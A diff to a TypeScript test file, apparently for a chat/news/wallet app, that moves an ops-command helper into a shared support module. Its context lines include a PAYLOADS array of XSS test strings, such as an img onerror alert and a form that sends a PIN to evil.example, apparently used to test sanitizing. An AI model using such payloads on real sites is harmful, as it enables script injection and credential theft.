@@ -7,9 +7,8 @@ import { WELCOME } from '../../server/content/chat';
 import { publishNews } from '../../server/content/news';
 import { seed } from '../../server/db/seed';
 import { SEED_ARTICLES } from '../../server/db/seed-news';
-import { COMMANDS } from '../../server/ops/commands/index';
 import { pending } from '../../server/ops/commands/review';
-import { DIALECTS, freshPhone, startTestServer, type TestServer } from '../support/server';
+import { DIALECTS, freshPhone, ops, startTestServer, type TestServer } from '../support/server';
 import { addCard, fund, TRADE_CODE, upload } from '../support/wallet';
 
 const PAYLOADS = [
@@ -22,12 +21,6 @@ const PAYLOADS = [
   '<math><mi><style><img src=x onerror=alert(7)></style></mi></math>',
   '<form action="https://evil.example"><input name="pin"></form>',
 ].join('\n');
-
-function ops(s: TestServer, name: string, ...args: string[]): Promise<unknown> {
-  const command = COMMANDS.find((c) => c.name === name);
-  if (!command) throw new Error(`no command ${name}`);
-  return command.run(s.deps, args);
-}
 
 async function demoToken(s: TestServer): Promise<{ token: string; id: number }> {
   const login = await s.call('login', {
